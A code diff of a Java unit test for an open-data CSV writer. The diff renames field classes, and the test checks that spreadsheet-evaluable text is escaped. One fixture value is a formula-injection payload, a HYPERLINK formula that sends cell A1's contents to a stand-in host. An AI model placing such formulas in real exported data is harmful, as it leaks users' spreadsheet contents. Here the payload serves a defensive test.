@@ -1,5 +1,7 @@
 package vn.congkhai.opendata;
 
+import vn.congkhai.kind.Table;
+
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 
@@ -23,8 +25,8 @@ class OpenDataWriterTest {
     @Test
     void textThatASpreadsheetWouldEvaluateIsWrittenAsTextAndNumbersAndDatesAsTheyAre() throws IOException {
         Dataset dataset = new Dataset("bang-thu", "Bảng thử", "bang/thu.csv", "bang/thu.json", "bang/thu.html",
-                List.of(new Dataset.Field("stt", "STT", "integer"), new Dataset.Field("noi_dung", "Nội dung", "string"),
-                        new Dataset.Field("so_tien", "=Số tiền", "integer"), new Dataset.Field("ngay", "Ngày", "date")),
+                List.of(new Table.Field("stt", "STT", "integer"), new Table.Field("noi_dung", "Nội dung", "string"),
+                        new Table.Field("so_tien", "=Số tiền", "integer"), new Table.Field("ngay", "Ngày", "date")),
                 List.of(
                         Arrays.asList(1, "=HYPERLINK(\"http://x.example/?\"&A1,\"Bấm\")", new BigDecimal("-1500000"),
                                 LocalDate.of(2024, 3, 25)),
